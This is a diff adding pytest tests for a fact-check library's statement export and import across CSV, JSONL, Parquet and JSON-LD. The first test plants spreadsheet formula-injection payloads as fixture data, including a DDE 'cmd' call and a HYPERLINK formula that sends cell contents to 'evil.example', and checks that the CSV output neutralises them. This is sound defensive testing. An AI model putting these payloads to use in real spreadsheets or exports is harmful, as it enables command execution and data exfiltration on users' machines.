@@ -1,0 +1,80 @@
+"""Statements written out: whole, safe to open in a spreadsheet, and read back as they were."""
+
+from __future__ import annotations
+
+import csv
+import json
+
+import pytest
+
+from factcheck.errors import InputError
+from factcheck.model import Statement, Verdict
+from factcheck.statements import load_statements, save_statements, to_frame, to_statements
+
+STATEMENTS = [
+    Statement(
+        id="=cmd|' /C calc'!A0",
+        text='=HYPERLINK("https://evil.example/?"&A1,"The weir was raised")',
+        verdict=Verdict.FALSE,
+        rating="-2+3",
+        publisher="@SUM(A1:A9)",
+        url="https://example.org/weir",
+        date="2021-03-04",
+    ),
+    Statement(id="b", text="'=1+1 is what he wrote", verdict=Verdict.TRUE, rating="True", extra={"ratingValue": "-5"}),
+    Statement(
+        id="c", text="The weir is -3 metres.", verdict=Verdict.MIXED, rating="Half true", title="\t=1", claimant="＝A1"
+    ),
+]
+
+
+def test_no_cell_of_a_csv_is_a_formula_and_nothing_is_lost(tmp_path):
+    path = tmp_path / "statements.csv"
+    save_statements(to_frame(STATEMENTS), path)
+    with path.open(encoding="utf-8", newline="") as file:
+        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
+    assert not [cell for cell in cells if cell.lstrip()[:1] and cell.lstrip()[0] in "=+-@＝"]
+    again = to_statements(load_statements([path]).frame)
+    assert [(s.id, s.text, s.rating, s.publisher, s.claimant) for s in again] == [
+        (s.id, s.text, s.rating, s.publisher, s.claimant) for s in STATEMENTS
+    ]
+    assert again[1].extra == {"ratingValue": "-5"}
+
+
+@pytest.mark.parametrize("ending", [".jsonl", ".parquet", ".csv", ".jsonld"])
+def test_every_ending_is_read_back(tmp_path, ending):
+    plain = [
+        Statement(
+            id=f"w{number}",
+            text=f"Weir {number} was raised by {number} metres.",
+            verdict=Verdict.MOSTLY_TRUE,
+            rating="Mostly true",
+            publisher="Desk A",
+            url=f"https://example.org/{number}",
+            date="2020-02",
+            claimant="Ida Holm",
+            extra={"claimDate": "2020-01-02"},
+        )
+        for number in range(3)
+    ]
+    path = tmp_path / f"out{ending}"
+    save_statements(to_frame(plain), path)
+    again = to_statements(load_statements([path]).frame)
+    own = {} if ending != ".jsonld" else {statement.text: statement.id for statement in again}
+    assert again == [
+        Statement(**{name: getattr(s, name) for name in Statement.__dataclass_fields__} | {"id": own.get(s.text, s.id)})
+        for s in plain
+    ]
+
+
+def test_a_feed_of_nothing_is_still_a_feed(tmp_path):
+    path = tmp_path / "none.jsonld"
+    save_statements(to_frame([]), path)
+    assert json.loads(path.read_text(encoding="utf-8"))["dataFeedElement"] == []
+
+
+def test_another_ending_is_refused_and_nothing_is_left(tmp_path):
+    with pytest.raises(InputError, match="cannot be written as") as caught:
+        save_statements(to_frame(STATEMENTS), tmp_path / "out.xlsx")
+    assert ".jsonld" in str(caught.value.hint)
+    assert list(tmp_path.iterdir()) == []
